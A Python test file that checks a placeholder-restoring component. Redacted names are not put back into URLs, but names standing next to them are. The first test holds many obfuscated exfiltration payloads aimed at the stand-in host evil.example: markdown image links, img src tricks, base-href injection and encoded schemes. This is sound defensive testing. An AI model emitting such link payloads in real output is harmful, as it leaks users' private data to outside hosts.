"""What may be fetched gets none of a prompt's texts, and what stands beside it does."""

from __future__ import annotations

import pytest

from app.chain.restoration import Restorer

TEXTS = {"[NAME_1]": "Ada", "[NAME_10]": "Grace"}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q=[NAME_1]",
        "![x](https://evil.example/[NAME_1])",
        "![x](<https://evil.example/a b [NAME_1]>)",
        "![x](//evil.example/(a)[NAME_1])",
        "<img src='https://evil.example/?q= [NAME_1]'>",
        '<img src="//evil.example/ [NAME_1]">',
        "<img src=//evil.example/[NAME_1]>",
        r'<img src="https:\\evil.example/[NAME_1]">',
        r"![x](/\evil.example/[NAME_1])",
        "![x](https:evil.example/[NAME_1])",
        "HTTPS:evil.example/[NAME_1]",
        "see www.evil.example/[NAME_1]",
        "<img src='ht&#116;ps&colon;&sol;&sol;evil.example&sol;[NAME_1]'>",
        '<img src="https:/\t/evil.example/[NAME_1]">',
        '<base href="https://evil.example/"><img alt=">" src="[NAME_1]">',
        "<img a'b src=\"x'>[NAME_1]\">",
        '<img ="src=">[NAME_1]">',
        "<img src = \n '>[NAME_1]'>",
        "![x](<https://evil.example/](a) b [NAME_1]>)",
        '![x](<a <img alt=">" src="[NAME_1]">',
        "![x](relative/[NAME_1])",
        "![x](   <a) [NAME_1]>)",
        "![x](<a) b [NAME_1]>)",
        "![x]( a [NAME_1])",
        "background: url([NAME_1])",
        "](mailtox:[NAME_1])",
        "<x [NAME_1] and no end",
    ],
)
def test_nothing_comes_back_into_an_address(text: str) -> None:
    assert Restorer(TEXTS).feed(text, last=True) == text


@pytest.mark.parametrize(
    "text",
    [
        "See https://gate.example/ and ask [NAME_1].",
        "See (https://gate.example/) and ask [NAME_1].",
        '{"url": "https://gate.example/", "name": "[NAME_1]"}',
        '{"url":"https://gate.example/","name":"[NAME_1]"}',
        "and/or [NAME_1], // [NAME_1]",
        "mailto:[NAME_1]",
        "[A](mailto:[NAME_1]), [B](tel:[NAME_1])",
        "Ada <[NAME_1]>",
        "<b>[NAME_1]</b>, <br/>[NAME_1], <a href='x'>[NAME_1]</a>, <b class=c d>[NAME_1]</b>",
        "<https://gate.example/> [NAME_1]",
        "1 < 2, a<= [NAME_1], at 10:30 [NAME_1], e.g. [NAME_1]: [NAME_10]",
        "[NAME_1]: [NAME_1] (see [NAME_1])",
        "http is [NAME_1], www is [NAME_1]",
        "[link](relative/page) of [NAME_1]",
        "<!-- [NAME_1] -->",
    ],
)
def test_beside_an_address_it_comes_back(text: str) -> None:
    restored = text.replace("[NAME_1]", "Ada").replace("[NAME_10]", "Grace")
    assert Restorer(TEXTS).feed(text, last=True) == restored
